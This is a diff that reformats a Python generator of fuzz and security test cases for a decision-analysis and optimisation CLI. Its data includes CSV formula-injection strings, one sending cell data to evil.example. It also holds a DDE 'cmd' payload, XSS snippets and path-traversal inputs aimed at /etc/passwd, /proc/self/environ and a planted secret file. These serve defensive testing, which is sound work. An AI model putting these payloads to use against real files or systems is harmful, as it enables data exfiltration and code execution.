@@ -16,6 +16,7 @@ optimisation solve``) with the files it needs, materialised under its own folder
 Every case folder has a sibling ``outside/secret.csv`` holding :data:`SECRET`: no output, stdout or
 stderr may ever contain it.
 """
+
 from __future__ import annotations
 
 import copy
@@ -37,9 +38,18 @@ SECRET_CSV = f"id,gdp,population\n{SECRET},1,2\nB{SECRET},3,4\n".encode()
 
 #: strings a planner (or an attacker) might type; the formula / markup ones must pass through safely
 INJECTIONS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
-    "![x](http://evil.example/a.png)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-    "| a | b |", "[link](javascript:alert(1))", "名前 🙂", "\u202eevil", "a" * 5000,
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "![x](http://evil.example/a.png)",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "| a | b |",
+    "[link](javascript:alert(1))",
+    "名前 🙂",
+    "\u202eevil",
+    "a" * 5000,
 ]
 #: strings the text rule refuses (mcda/text.py)
 CONTROL = ["a\x00b", "a\x0bb", "a\x1bb", "a\x85b", "a\ud800b", "a\udfffb", "a\ufffeb", "a\U0010ffffb", "a\x7fb"]
@@ -55,10 +65,10 @@ class Case:
     files: dict[str, bytes] = field(default_factory=dict)
     fifos: list[str] = field(default_factory=list)
     dirs: list[str] = field(default_factory=list)
-    symlinks: dict[str, str] = field(default_factory=dict)   # name -> target ({root} = corpus root)
-    sparse: dict[str, int] = field(default_factory=dict)      # name -> size (a hole, no disk used)
-    isolate: bool = False            # subprocess with a timeout and a memory limit (may hang or blow up)
-    expect: tuple[int, ...] | None = None   # exact exit codes when the right answer is known
+    symlinks: dict[str, str] = field(default_factory=dict)  # name -> target ({root} = corpus root)
+    sparse: dict[str, int] = field(default_factory=dict)  # name -> size (a hole, no disk used)
+    isolate: bool = False  # subprocess with a timeout and a memory limit (may hang or blow up)
+    expect: tuple[int, ...] | None = None  # exact exit codes when the right answer is known
     family: str = ""
 
 
@@ -110,12 +120,31 @@ def _nest(depth: int, kind: str = "list"):
     return v
 
 
-MUTATIONS = [
-    ("str", "text"), ("int", 1), ("neg", -1), ("zero", 0), ("float", 0.5), ("huge", 1e308), ("neghuge", -1e308),
-    ("bigint", 10 ** 30), ("nan", float("nan")), ("inf", float("inf")), ("ninf", float("-inf")), ("null", None),
-    ("true", True), ("list", []), ("dict", {}), ("listjunk", [1, "x", None]), ("deep40", _nest(40)),
-    ("deepdict40", _nest(40, "dict")), ("empty", ""),
-] + [(f"inj{i}", s) for i, s in enumerate(INJECTIONS)] + [(f"ctl{i}", s) for i, s in enumerate(CONTROL)]
+MUTATIONS = (
+    [
+        ("str", "text"),
+        ("int", 1),
+        ("neg", -1),
+        ("zero", 0),
+        ("float", 0.5),
+        ("huge", 1e308),
+        ("neghuge", -1e308),
+        ("bigint", 10**30),
+        ("nan", float("nan")),
+        ("inf", float("inf")),
+        ("ninf", float("-inf")),
+        ("null", None),
+        ("true", True),
+        ("list", []),
+        ("dict", {}),
+        ("listjunk", [1, "x", None]),
+        ("deep40", _nest(40)),
+        ("deepdict40", _nest(40, "dict")),
+        ("empty", ""),
+    ]
+    + [(f"inj{i}", s) for i, s in enumerate(INJECTIONS)]
+    + [(f"ctl{i}", s) for i, s in enumerate(CONTROL)]
+)
 
 
 def scenario_mutants(per_field: int = 3) -> list[Case]:
@@ -128,8 +157,15 @@ def scenario_mutants(per_field: int = 3) -> list[Case]:
             picks = rng.sample(MUTATIONS, per_field)
             for tag, value in picks:
                 name = "/".join(map(str, loc)) or "ROOT"
-                cases.append(Case(f"mut-{sc}-{name}-{tag}", "optimisation", ["solve", "{d}/s.json", "--out", "{o}"],
-                                  files={"s.json": _dumps(_set(doc, loc, value))}, family="scenario-mutant"))
+                cases.append(
+                    Case(
+                        f"mut-{sc}-{name}-{tag}",
+                        "optimisation",
+                        ["solve", "{d}/s.json", "--out", "{o}"],
+                        files={"s.json": _dumps(_set(doc, loc, value))},
+                        family="scenario-mutant",
+                    )
+                )
     return cases
 
 
@@ -149,20 +185,43 @@ def scenario_structure() -> list[Case]:
         "float-1e999": text.replace('"budget_aid_musd": 362', '"budget_aid_musd": 1e999', 1),
         "float-long": text.replace('"budget_aid_musd": 362', '"budget_aid_musd": 3' + "0" * 400 + ".5", 1),
         "nan-filter-value": text.replace('"value": 1', '"value": NaN', 1),
-        "array": "[]", "string": '"x"', "number": "1", "null": "null",
+        "array": "[]",
+        "string": '"x"',
+        "number": "1",
+        "null": "null",
         "truncated": text[: len(text) // 2],
         "trailing-garbage": text + "}",
     }
-    cases = [Case(f"struct-{k}", "optimisation", ["solve", "{d}/s.json", "--out", "{o}"], files={"s.json": v.encode()},
-                  expect=(2,), family="scenario-structure") for k, v in raw.items()]
+    cases = [
+        Case(
+            f"struct-{k}",
+            "optimisation",
+            ["solve", "{d}/s.json", "--out", "{o}"],
+            files={"s.json": v.encode()},
+            expect=(2,),
+            family="scenario-structure",
+        )
+        for k, v in raw.items()
+    ]
     byte_cases = {
-        "empty": b"", "bom-only": b"\xef\xbb\xbf", "bom-valid": b"\xef\xbb\xbf" + text.encode(),
+        "empty": b"",
+        "bom-only": b"\xef\xbb\xbf",
+        "bom-valid": b"\xef\xbb\xbf" + text.encode(),
         "latin1": text.replace("Default", "Défault").encode("latin-1"),
-        "binary": random.Random(SEED).randbytes(4096), "nul-bytes": b"\x00" * 64,
+        "binary": random.Random(SEED).randbytes(4096),
+        "nul-bytes": b"\x00" * 64,
     }
     for k, v in byte_cases.items():
-        cases.append(Case(f"struct-{k}", "optimisation", ["solve", "{d}/s.json", "--out", "{o}"], files={"s.json": v},
-                          expect=(0,) if k == "bom-valid" else (2,), family="scenario-structure"))
+        cases.append(
+            Case(
+                f"struct-{k}",
+                "optimisation",
+                ["solve", "{d}/s.json", "--out", "{o}"],
+                files={"s.json": v},
+                expect=(0,) if k == "bom-valid" else (2,),
+                family="scenario-structure",
+            )
+        )
     # hostile text through the full run (report, XLSX, HTML): refused control text, accepted injections
     small = _small_dataset()
     for i, s in enumerate(CONTROL):
@@ -172,14 +231,30 @@ def scenario_structure() -> list[Case]:
                 d["shortlist"]["exclusions"] = [{"id": "ARG", "reason": s}]
             else:
                 d[where] = s
-            cases.append(Case(f"text-run-{where}-ctl{i}", "mcda", ["run", "{d}/s.json", "--out", "{o}"],
-                              files={"s.json": _dumps(d)}, expect=(2,), family="scenario-text"))
+            cases.append(
+                Case(
+                    f"text-run-{where}-ctl{i}",
+                    "mcda",
+                    ["run", "{d}/s.json", "--out", "{o}"],
+                    files={"s.json": _dumps(d)},
+                    expect=(2,),
+                    family="scenario-text",
+                )
+            )
     d = _small_scenario()
     d["name"] = " ".join(INJECTIONS[:7]) + " 名前 🙂"
     d["description"] = "\n".join(INJECTIONS) + "\ttabbed\r\nline"
     d["shortlist"]["exclusions"] = [{"id": "R2", "reason": INJECTIONS[0]}]
-    cases.append(Case("text-run-injections", "mcda", ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
-                      files={"s.json": _dumps(d), "data.csv": small}, expect=(0,), family="scenario-text"))
+    cases.append(
+        Case(
+            "text-run-injections",
+            "mcda",
+            ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
+            files={"s.json": _dumps(d), "data.csv": small},
+            expect=(0,),
+            family="scenario-text",
+        )
+    )
     return cases
 
 
@@ -193,10 +268,16 @@ def _small_dataset() -> bytes:
 
 
 def _small_scenario(dataset: str = "data.csv") -> dict:
-    return {"name": "small", "data": {"dataset": dataset},
-            "criteria": [{"id": "size", "direction": "benefit", "weight": 1},
-                         {"id": "risk", "direction": "cost", "weight": 1}],
-            "method": {"name": "topsis", "normalization": "minmax"}, "shortlist": {"top_k": 2}}
+    return {
+        "name": "small",
+        "data": {"dataset": dataset},
+        "criteria": [
+            {"id": "size", "direction": "benefit", "weight": 1},
+            {"id": "risk", "direction": "cost", "weight": 1},
+        ],
+        "method": {"name": "topsis", "normalization": "minmax"},
+        "shortlist": {"top_k": 2},
+    }
 
 
 def _alloc_scenario(dataset: str) -> bytes:
@@ -210,14 +291,28 @@ def dataset_paths() -> list[Case]:
     solve = ["solve", "{d}/s.json", "--out", "{o}"]
     out = []
     bad = {
-        "absolute": "{root}/outside/secret.csv", "dotdot": "../../outside/secret.csv", "etc-passwd": "/etc/passwd",
-        "dev-zero": "/dev/zero", "dev-urandom": "/dev/urandom", "fifo-inside": "fifo.csv", "folder-inside": "sub",
-        "symlink-out": "link.csv", "missing": "nope.csv", "proc": "/proc/self/environ", "nul": "a\x00b.csv",
+        "absolute": "{root}/outside/secret.csv",
+        "dotdot": "../../outside/secret.csv",
+        "etc-passwd": "/etc/passwd",
+        "dev-zero": "/dev/zero",
+        "dev-urandom": "/dev/urandom",
+        "fifo-inside": "fifo.csv",
+        "folder-inside": "sub",
+        "symlink-out": "link.csv",
+        "missing": "nope.csv",
+        "proc": "/proc/self/environ",
+        "nul": "a\x00b.csv",
         "symlink-loop": "loop.csv",
     }
     for k, v in bad.items():
-        c = Case(f"dataset-{k}", "optimisation", solve, family="dataset-path", expect=(2,),
-                 isolate=k in ("dev-zero", "dev-urandom", "fifo-inside"))
+        c = Case(
+            f"dataset-{k}",
+            "optimisation",
+            solve,
+            family="dataset-path",
+            expect=(2,),
+            isolate=k in ("dev-zero", "dev-urandom", "fifo-inside"),
+        )
         c.files["s.json"] = _alloc_scenario(v)
         if k == "fifo-inside":
             c.fifos.append("fifo.csv")
@@ -232,45 +327,87 @@ def dataset_paths() -> list[Case]:
             r = copy.deepcopy(c)
             r.id, r.module, r.argv = f"dataset-run-{k}", "mcda", ["run", "{d}/s.json", "--out", "{o}"]
             out.append(r)
-    ok = Case("dataset-inside-ok", "mcda", ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
-              files={"s.json": _dumps(_small_scenario("sub/data.csv")), "sub/data.csv": _small_dataset()},
-              expect=(0,), family="dataset-path")
-    inside_link = Case("dataset-symlink-inside-ok", "mcda", ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
-                       files={"s.json": _dumps(_small_scenario("link.csv")), "real.csv": _small_dataset()},
-                       symlinks={"link.csv": "real.csv"}, expect=(0,), family="dataset-path")
+    ok = Case(
+        "dataset-inside-ok",
+        "mcda",
+        ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
+        files={"s.json": _dumps(_small_scenario("sub/data.csv")), "sub/data.csv": _small_dataset()},
+        expect=(0,),
+        family="dataset-path",
+    )
+    inside_link = Case(
+        "dataset-symlink-inside-ok",
+        "mcda",
+        ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
+        files={"s.json": _dumps(_small_scenario("link.csv")), "real.csv": _small_dataset()},
+        symlinks={"link.csv": "real.csv"},
+        expect=(0,),
+        family="dataset-path",
+    )
     return out + [ok, inside_link]
 
 
 def cli_paths() -> list[Case]:
     """Devices, pipes, folders and missing files as command-line arguments; --out on a file or read-only."""
     out = []
-    targets = {"dev-zero": "/dev/zero", "dev-urandom": "/dev/urandom", "fifo": "{d}/fifo", "folder": "{d}/sub",
-               "missing": "{d}/nope.csv", "empty-name": ""}
+    targets = {
+        "dev-zero": "/dev/zero",
+        "dev-urandom": "/dev/urandom",
+        "fifo": "{d}/fifo",
+        "folder": "{d}/sub",
+        "missing": "{d}/nope.csv",
+        "empty-name": "",
+    }
     for k, t in targets.items():
         iso = k in ("dev-zero", "dev-urandom", "fifo")
-        specs = [("rank", "mcda", ["rank", t, "--criteria", "{d}/c.csv"]),
-                 ("rank-crit", "mcda", ["rank", "{d}/m.csv", "--criteria", t]),
-                 ("weights", "mcda", ["weights", t, "--criteria", "{d}/c.csv", "--method", "entropy"]),
-                 ("smaa", "mcda", ["smaa", t, "--criteria", "{d}/c.csv", "--samples", "100", "--out", "{o}/a.csv"]),
-                 ("ahp", "mcda", ["ahp", t]),
-                 ("run", "mcda", ["run", t, "--out", "{o}"]),
-                 ("solve", "optimisation", ["solve", t, "--out", "{o}"])]
+        specs = [
+            ("rank", "mcda", ["rank", t, "--criteria", "{d}/c.csv"]),
+            ("rank-crit", "mcda", ["rank", "{d}/m.csv", "--criteria", t]),
+            ("weights", "mcda", ["weights", t, "--criteria", "{d}/c.csv", "--method", "entropy"]),
+            ("smaa", "mcda", ["smaa", t, "--criteria", "{d}/c.csv", "--samples", "100", "--out", "{o}/a.csv"]),
+            ("ahp", "mcda", ["ahp", t]),
+            ("run", "mcda", ["run", t, "--out", "{o}"]),
+            ("solve", "optimisation", ["solve", t, "--out", "{o}"]),
+        ]
         for name, mod, argv in specs:
-            out.append(Case(f"cli-{name}-{k}", mod, argv, files={"m.csv": MATRIX, "c.csv": CRITERIA},
-                            fifos=["fifo"], dirs=["sub"], isolate=iso, expect=(2,), family="cli-path"))
+            out.append(
+                Case(
+                    f"cli-{name}-{k}",
+                    mod,
+                    argv,
+                    files={"m.csv": MATRIX, "c.csv": CRITERIA},
+                    fifos=["fifo"],
+                    dirs=["sub"],
+                    isolate=iso,
+                    expect=(2,),
+                    family="cli-path",
+                )
+            )
     sc = (ROOT / "scenarios" / "default.json").read_bytes()
-    for name, mod, argv in [("run", "mcda", ["run", "{d}/s.json", "--out", "{d}/afile"]),
-                            ("solve", "optimisation", ["solve", "{d}/s.json", "--out", "{d}/afile"]),
-                            ("solve-under-file", "optimisation", ["solve", "{d}/s.json", "--out", "{d}/afile/sub"]),
-                            ("solve-readonly", "optimisation", ["solve", "{d}/s.json", "--out", "/sys/fulcrum-out"]),
-                            ("run-readonly", "mcda", ["run", "{d}/s.json", "--out", "/sys/fulcrum-out"]),
-                            ("rank-readonly", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out",
-                                                        "/sys/fulcrum-out.csv"]),
-                            ("rank-out-folder", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{d}"]),
-                            ("smaa-out-missing-dir", "mcda", ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv",
-                                                               "--samples", "50", "--out", "{d}/no/such/a.csv"])]:
-        out.append(Case(f"out-{name}", mod, argv, files={"s.json": sc, "afile": b"x", "m.csv": MATRIX, "c.csv": CRITERIA},
-                        expect=(2,), family="out-path"))
+    for name, mod, argv in [
+        ("run", "mcda", ["run", "{d}/s.json", "--out", "{d}/afile"]),
+        ("solve", "optimisation", ["solve", "{d}/s.json", "--out", "{d}/afile"]),
+        ("solve-under-file", "optimisation", ["solve", "{d}/s.json", "--out", "{d}/afile/sub"]),
+        ("solve-readonly", "optimisation", ["solve", "{d}/s.json", "--out", "/sys/fulcrum-out"]),
+        ("run-readonly", "mcda", ["run", "{d}/s.json", "--out", "/sys/fulcrum-out"]),
+        ("rank-readonly", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "/sys/fulcrum-out.csv"]),
+        ("rank-out-folder", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{d}"]),
+        (
+            "smaa-out-missing-dir",
+            "mcda",
+            ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "50", "--out", "{d}/no/such/a.csv"],
+        ),
+    ]:
+        out.append(
+            Case(
+                f"out-{name}",
+                mod,
+                argv,
+                files={"s.json": sc, "afile": b"x", "m.csv": MATRIX, "c.csv": CRITERIA},
+                expect=(2,),
+                family="out-path",
+            )
+        )
     return out
 
 
@@ -284,57 +421,102 @@ def table_junk() -> list[Case]:
     rng = random.Random(SEED + 1)
     m = MATRIX
     variants: dict[str, tuple[bytes, tuple[int, ...] | None]] = {
-        "empty": (b"", (2,)), "bom-only": (b"\xef\xbb\xbf", (2,)), "bom": (b"\xef\xbb\xbf" + m, (0,)),
-        "binary": (rng.randbytes(8192), (2,)), "truncated": (m[: len(m) * 2 // 3], None),
+        "empty": (b"", (2,)),
+        "bom-only": (b"\xef\xbb\xbf", (2,)),
+        "bom": (b"\xef\xbb\xbf" + m, (0,)),
+        "binary": (rng.randbytes(8192), (2,)),
+        "truncated": (m[: len(m) * 2 // 3], None),
         "header-only": (m.split(b"\n", 1)[0] + b"\n", (2,)),
-        "crlf": (m.replace(b"\n", b"\r\n"), (0,)), "cr-only": (m.replace(b"\n", b"\r"), None),
-        "ragged-long": (_replace_cell(m, b",3\n", b",3,99\n"), (2,)), "ragged-short": (_replace_cell(m, b",19264,3\n", b"\n"), (2,)),
+        "crlf": (m.replace(b"\n", b"\r\n"), (0,)),
+        "cr-only": (m.replace(b"\n", b"\r"), None),
+        "ragged-long": (_replace_cell(m, b",3\n", b",3,99\n"), (2,)),
+        "ragged-short": (_replace_cell(m, b",19264,3\n", b"\n"), (2,)),
         "latin1": (_replace_cell(m, b"ARG", "ARGé".encode("latin-1")), (2,)),
         "utf16": (m.decode().encode("utf-16"), (2,)),
         "nul-cell": (_replace_cell(m, b"ARG", b"AR\x00G"), (2,)),
-        "vt-cell": (_replace_cell(m, b"ARG", b"AR\x0bG"), (2,)), "c1-cell": (_replace_cell(m, b"ARG", "AR\x85G".encode()), (2,)),
-        "vt-header": (_replace_cell(m, b"gdp", b"g\x0bdp"), (2,)), "esc-value": (_replace_cell(m, b"683097891618.597", b"6\x1b8"), (2,)),
+        "vt-cell": (_replace_cell(m, b"ARG", b"AR\x0bG"), (2,)),
+        "c1-cell": (_replace_cell(m, b"ARG", "AR\x85G".encode()), (2,)),
+        "vt-header": (_replace_cell(m, b"gdp", b"g\x0bdp"), (2,)),
+        "esc-value": (_replace_cell(m, b"683097891618.597", b"6\x1b8"), (2,)),
         "quoted-newline-id": (_replace_cell(m, b"ARG,", b'"AR\nG",'), (2,)),
-        "formula-ids": (_replace_cell(_replace_cell(m, b"ARG", b'"=HYPERLINK(""http://evil.example"")"'), b"ATG", b"+cmd|' /C calc'!A0"), (0,)),
+        "formula-ids": (
+            _replace_cell(
+                _replace_cell(m, b"ARG", b'"=HYPERLINK(""http://evil.example"")"'), b"ATG", b"+cmd|' /C calc'!A0"
+            ),
+            (0,),
+        ),
         "formula-values": (_replace_cell(m, b"683097891618.597", b"=1+1"), (2,)),
         "dup-ids": (_replace_cell(m, b"ATG", b"ARG"), (2,)),
-        "nan-text": (_replace_cell(m, b"683097891618.597", b"nan"), (2,)), "inf": (_replace_cell(m, b"683097891618.597", b"inf"), (2,)),
-        "1e999": (_replace_cell(m, b"683097891618.597", b"1e999"), (2,)), "5000-digits": (_replace_cell(m, b"683097891618.597", b"9" * 5000), None),
+        "nan-text": (_replace_cell(m, b"683097891618.597", b"nan"), (2,)),
+        "inf": (_replace_cell(m, b"683097891618.597", b"inf"), (2,)),
+        "1e999": (_replace_cell(m, b"683097891618.597", b"1e999"), (2,)),
+        "5000-digits": (_replace_cell(m, b"683097891618.597", b"9" * 5000), None),
         "huge-values": (_replace_cell(m, b"683097891618.597", b"1.7e308"), None),
-        "semicolon": (m.replace(b",", b";"), None), "tabs": (m.replace(b",", b"\t"), None),
+        "semicolon": (m.replace(b",", b";"), None),
+        "tabs": (m.replace(b",", b"\t"), None),
         "huge-header": (b"id," + b",".join(b"c%d" % i for i in range(200_000)) + b"\nA,1\n", (2,)),
-        "many-columns": (b"id," + b",".join(b"c%d" % i for i in range(1500)) + b"\n" + b"A" + b",1" * 1500 + b"\n", (2,)),
-        "only-ids": (b"id\nA\nB\n", (2,)), "blank-lines": (b"\n\n\n" + m + b"\n\n,,,\n", (0,)),
+        "many-columns": (
+            b"id," + b",".join(b"c%d" % i for i in range(1500)) + b"\n" + b"A" + b",1" * 1500 + b"\n",
+            (2,),
+        ),
+        "only-ids": (b"id\nA\nB\n", (2,)),
+        "blank-lines": (b"\n\n\n" + m + b"\n\n,,,\n", (0,)),
         "markdown-id": (_replace_cell(m, b"ARG", b"![x](http://evil.example/a.png)"), (0,)),
         "script-id": (_replace_cell(m, b"ARG", b"<script>alert(1)</script>"), (0,)),
     }
     cases = []
     for k, (data, exp) in variants.items():
-        for cmd, argv in (("rank", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{o}/rank.csv"]),
-                          ("smaa", ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "200", "--out", "{o}/smaa.csv"]),
-                          ("weights", ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "entropy",
-                                       "--out", "{o}/weights.csv"])):
-            cases.append(Case(f"matrix-{k}-{cmd}", "mcda", argv, files={"m.csv": data, "c.csv": CRITERIA}, expect=exp,
-                              family="matrix-junk"))
+        for cmd, argv in (
+            ("rank", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{o}/rank.csv"]),
+            ("smaa", ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "200", "--out", "{o}/smaa.csv"]),
+            (
+                "weights",
+                ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "entropy", "--out", "{o}/weights.csv"],
+            ),
+        ):
+            cases.append(
+                Case(
+                    f"matrix-{k}-{cmd}",
+                    "mcda",
+                    argv,
+                    files={"m.csv": data, "c.csv": CRITERIA},
+                    expect=exp,
+                    family="matrix-junk",
+                )
+            )
     c = CRITERIA
     crit_variants = {
-        "empty": b"", "binary": rng.randbytes(2048), "no-weight-col": b"criterion,direction\ngdp,benefit\n",
-        "unknown-criterion": c + b"nope,benefit,1\n", "bad-direction": _replace_cell(c, b"gdp,benefit", b"gdp,better"),
+        "empty": b"",
+        "binary": rng.randbytes(2048),
+        "no-weight-col": b"criterion,direction\ngdp,benefit\n",
+        "unknown-criterion": c + b"nope,benefit,1\n",
+        "bad-direction": _replace_cell(c, b"gdp,benefit", b"gdp,better"),
         "nan-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,nan"),
         "neg-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,-1"),
         "inf-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,1e999"),
         "5000-digit-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit," + b"9" * 5000),
         "text-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,=SUM(1)"),
         "all-zero": b"criterion,direction,weight\ngdp,benefit,0\nhdi,cost,0\n",
-        "dup": c + b"gdp,benefit,1\n", "ctl-name": _replace_cell(c, b"gdp,", b"g\x1fdp,"),
+        "dup": c + b"gdp,benefit,1\n",
+        "ctl-name": _replace_cell(c, b"gdp,", b"g\x1fdp,"),
         "formula-name": _replace_cell(c, b"gdp,", b"=gdp,"),
     }
     for k, data in crit_variants.items():
-        for cmd, argv in (("rank", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"]),
-                          ("weights", ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "critic"])):
+        for cmd, argv in (
+            ("rank", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"]),
+            ("weights", ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "critic"]),
+        ):
             exp = (0, 2) if (cmd == "weights" and "weight" in k) or k == "all-zero" else (2,)
-            cases.append(Case(f"criteria-{k}-{cmd}", "mcda", argv, files={"m.csv": MATRIX, "c.csv": data}, expect=exp,
-                              family="criteria-junk"))
+            cases.append(
+                Case(
+                    f"criteria-{k}-{cmd}",
+                    "mcda",
+                    argv,
+                    files={"m.csv": MATRIX, "c.csv": data},
+                    expect=exp,
+                    family="criteria-junk",
+                )
+            )
     cases += _xlsx_junk()
     return cases
 
@@ -354,41 +536,59 @@ def _xlsx_junk() -> list[Case]:
     good = [["id", "gdp", "hdi"], ["A", 1.0, 0.5], ["B", 2.0, 0.7], ["C", 3.0, 0.6]]
     crit = b"criterion,direction,weight\ngdp,benefit,1\nhdi,cost,1\n"
     variants = {
-        "good": (book(good), (0,)), "text": (b"this is text, not a workbook\n", (2,)),
-        "random": (random.Random(SEED + 2).randbytes(4096), (2,)), "truncated": (book(good)[:600], (2,)),
+        "good": (book(good), (0,)),
+        "text": (b"this is text, not a workbook\n", (2,)),
+        "random": (random.Random(SEED + 2).randbytes(4096), (2,)),
+        "truncated": (book(good)[:600], (2,)),
         # a formula cell has no cached value when openpyxl wrote it: a missing id (exit 2) is the right answer
-        "formula-id": (book([good[0], ["=HYPERLINK(\"http://evil.example\")", 1.0, 0.5], *good[2:]]), (0, 2)),
+        "formula-id": (book([good[0], ['=HYPERLINK("http://evil.example")', 1.0, 0.5], *good[2:]]), (0, 2)),
         "c1-cell": (book([good[0], ["A\x85", 1.0, 0.5], *good[2:]]), (2,)),
         "del-cell": (book([good[0], ["A", 1.0, 0.5], ["B\x7f", 2.0, 0.7], good[3]]), (2,)),
         "nonchar-header": (book([["id", "gdp\ufffe", "hdi"], *good[1:]]), (2,)),
         "empty-sheet": (book([]), (2,)),
     }
-    return [Case(f"xlsx-{k}-{cmd}", "mcda", argv, files={"m.xlsx": data, "c.csv": crit}, expect=exp, family="xlsx-junk")
-            for k, (data, exp) in variants.items()
-            for cmd, argv in (("rank", ["rank", "{d}/m.xlsx", "--criteria", "{d}/c.csv"]),
-                              ("weights", ["weights", "{d}/m.xlsx", "--criteria", "{d}/c.csv", "--method", "std"]))]
+    return [
+        Case(f"xlsx-{k}-{cmd}", "mcda", argv, files={"m.xlsx": data, "c.csv": crit}, expect=exp, family="xlsx-junk")
+        for k, (data, exp) in variants.items()
+        for cmd, argv in (
+            ("rank", ["rank", "{d}/m.xlsx", "--criteria", "{d}/c.csv"]),
+            ("weights", ["weights", "{d}/m.xlsx", "--criteria", "{d}/c.csv", "--method", "std"]),
+        )
+    ]
 
 
 def judgement_junk() -> list[Case]:
     """Bad AHP judgement files (and overflow-prone extended-scale values)."""
     j = JUDGEMENTS
     variants: dict[str, tuple[bytes, tuple[int, ...] | None, list[str]]] = {
-        "empty": (b"", (2,), []), "binary": (random.Random(SEED + 3).randbytes(1024), (2,), []),
-        "not-square": (j.rsplit(b"\n", 2)[0] + b"\n", (2,), []), "zero": (_replace_cell(j, b"1/3", b"0"), (2,), []),
-        "negative": (_replace_cell(j, b"1/3", b"-3"), (2,), []), "text": (_replace_cell(j, b"1/3", b"abc"), (2,), []),
-        "formula": (_replace_cell(j, b"1/3", b"=1/3"), (2,), []), "div-zero": (_replace_cell(j, b"1/3", b"1/0"), (2,), []),
+        "empty": (b"", (2,), []),
+        "binary": (random.Random(SEED + 3).randbytes(1024), (2,), []),
+        "not-square": (j.rsplit(b"\n", 2)[0] + b"\n", (2,), []),
+        "zero": (_replace_cell(j, b"1/3", b"0"), (2,), []),
+        "negative": (_replace_cell(j, b"1/3", b"-3"), (2,), []),
+        "text": (_replace_cell(j, b"1/3", b"abc"), (2,), []),
+        "formula": (_replace_cell(j, b"1/3", b"=1/3"), (2,), []),
+        "div-zero": (_replace_cell(j, b"1/3", b"1/0"), (2,), []),
         "ctl-name": (_replace_cell(j, b"economic,1", b"econ\x0bomic,1"), (2,), []),
         "nul": (_replace_cell(j, b"1/3", b"1\x00/3"), (2,), []),
         "latin1": (_replace_cell(j, b"ties", "tiés".encode("latin-1")), (2,), []),
         "off-scale": (_replace_cell(j, b"1,3,5,2", b"1,30,5,2"), (2,), []),
         "overflow": (b"x,a,b,c\na,1,1e300,1e-300\nb,1e-300,1,1e300\nc,1e300,1e-300,1\n", (2,), ["--extended-scale"]),
-        "overflow-geo": (b"x,a,b,c\na,1,1e200,1e200\nb,1e-200,1,1e200\nc,1e-200,1e-200,1\n", (2,), ["--extended-scale", "--method", "geometric"]),
+        "overflow-geo": (
+            b"x,a,b,c\na,1,1e200,1e200\nb,1e-200,1,1e200\nc,1e-200,1e-200,1\n",
+            (2,),
+            ["--extended-scale", "--method", "geometric"],
+        ),
         "wide-ok": (b"x,a,b,c\na,1,1e100,1e100\nb,1e-100,1,1e100\nc,1e-100,1e-100,1\n", (0,), ["--extended-scale"]),
         "5000-digits": (_replace_cell(j, b"1,3,5,2", b"1," + b"9" * 5000 + b",5,2"), (2,), ["--extended-scale"]),
-        "201-items": (_square(201), (2,), []), "bom": (b"\xef\xbb\xbf" + j, (0,), []), "semicolon": (j.replace(b",", b";"), (0,), []),
+        "201-items": (_square(201), (2,), []),
+        "bom": (b"\xef\xbb\xbf" + j, (0,), []),
+        "semicolon": (j.replace(b",", b";"), (0,), []),
     }
-    return [Case(f"ahp-{k}", "mcda", ["ahp", "{d}/j.csv", *extra], files={"j.csv": data}, expect=exp, family="ahp-junk")
-            for k, (data, exp, extra) in variants.items()]
+    return [
+        Case(f"ahp-{k}", "mcda", ["ahp", "{d}/j.csv", *extra], files={"j.csv": data}, expect=exp, family="ahp-junk")
+        for k, (data, exp, extra) in variants.items()
+    ]
 
 
 def _square(n: int) -> bytes:
@@ -400,7 +600,9 @@ def _square(n: int) -> bytes:
 def sizes() -> list[Case]:
     """Inputs whose size used to exhaust memory or time; run in a subprocess with limits."""
     crit1 = b"criterion,direction,weight\nc1,benefit,1\n"
-    wide = b"id," + b",".join(b"c%d" % i for i in range(1_000_000)) + b"\nA," + b",".join(b"1" for _ in range(3)) + b"\n"
+    wide = (
+        b"id," + b",".join(b"c%d" % i for i in range(1_000_000)) + b"\nA," + b",".join(b"1" for _ in range(3)) + b"\n"
+    )
     tall = b"id,c1\n" + b"".join(b"a%d,%d\n" % (i, i % 97) for i in range(1_100_000))
     rows2m = b"id,c1\n" + b"a,1\n" * 2_000_100
     doc = _scenario_doc("default")
@@ -408,32 +610,98 @@ def sizes() -> list[Case]:
     dup = _scenario_doc("default")
     dup["data"]["candidates"] = ["ARG"] * 200_000
     return [
